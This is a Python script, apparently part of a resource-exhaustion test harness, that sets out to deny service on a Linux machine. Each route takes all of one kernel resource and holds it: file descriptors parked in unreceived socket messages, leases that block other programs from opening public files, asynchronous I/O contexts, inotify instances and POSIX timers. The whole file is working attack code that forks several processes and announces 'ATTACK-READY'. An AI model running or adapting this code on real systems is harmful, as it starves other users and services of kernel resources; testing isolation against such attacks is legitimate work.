"""Routes that take what the kernel counts for a whole user or a whole machine, and keep it for a while."""

from __future__ import annotations

import array
import contextlib
import ctypes
import fcntl
import json
import os
import signal
import socket
import sys
import threading
import time
from collections.abc import Callable
from typing import Any

Facts = dict[str, Any]
HOLD_SECONDS = 20
X86 = os.uname().machine == "x86_64"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def descriptors(_facts: Facts) -> object:
    """Put as many descriptors as possible into messages that nobody receives."""
    ends = []
    with contextlib.suppress(OSError):
        while True:
            ends.append(socket.socketpair())
            for _ in range(200):
                rights = array.array("i", [0] * 253)
                ends[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    return ends


def leases(facts: Facts) -> object:
    """Hold leases on every public file: a program that opens one waits until the lease is broken."""
    signal.signal(signal.SIGIO, signal.SIG_IGN)  # by which the kernel asks for a lease to be given back
    files = [os.open(path, os.O_RDONLY) for path in facts["public"]]

    def keep() -> None:
        while True:
            for file in files:
                with contextlib.suppress(OSError):
                    fcntl.fcntl(file, 1024, 1)  # F_SETLEASE, F_WRLCK
            time.sleep(0.01)

    threading.Thread(target=keep, daemon=True).start()
    return files


def requests(_facts: Facts) -> object:
    """Reserve all of the machine's asynchronous requests."""
    contexts = []
    for size in (1 << 16, 1 << 12, 1 << 8, 16, 1):
        context = ctypes.c_ulong(0)
        while libc.syscall(206 if X86 else 0, size, ctypes.byref(context)) == 0:
            contexts.append(context)
            context = ctypes.c_ulong(0)
    return contexts


def watches(_facts: Facts) -> object:
    """Take all of a user's groups of file watches."""
    numbers = []
    while (number := libc.inotify_init()) >= 0:
        numbers.append(number)
    return numbers


def timers(_facts: Facts) -> object:
    """Take all of a user's pending signals for timers."""
    numbers: list[int | None] = []
    timer = ctypes.c_void_p()
    while libc.timer_create(1, None, ctypes.byref(timer)) == 0 and len(numbers) < 1_000_000:
        numbers.append(timer.value)
    return numbers


ROUTES: dict[str, Callable[[Facts], Any]] = {
    "descriptors-of-the-user": descriptors,
    "leases": leases,
    "asynchronous-requests": requests,
    "watches-of-the-user": watches,
    "timers-of-the-user": timers,
}


def main(name: str) -> None:
    """Take everything, in several processes; say so, and keep it."""
    with open("attack_facts.json", encoding="utf-8") as file:
        facts = json.load(file)
    for _ in range(0 if name == "leases" else 3):  # only a file that is open once can be leased
        if os.fork() == 0:
            break
    kept = ROUTES[name](facts)
    time.sleep(1)
    print(f"ATTACK-READY {len(kept)}", flush=True)
    time.sleep(HOLD_SECONDS)
    os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1])
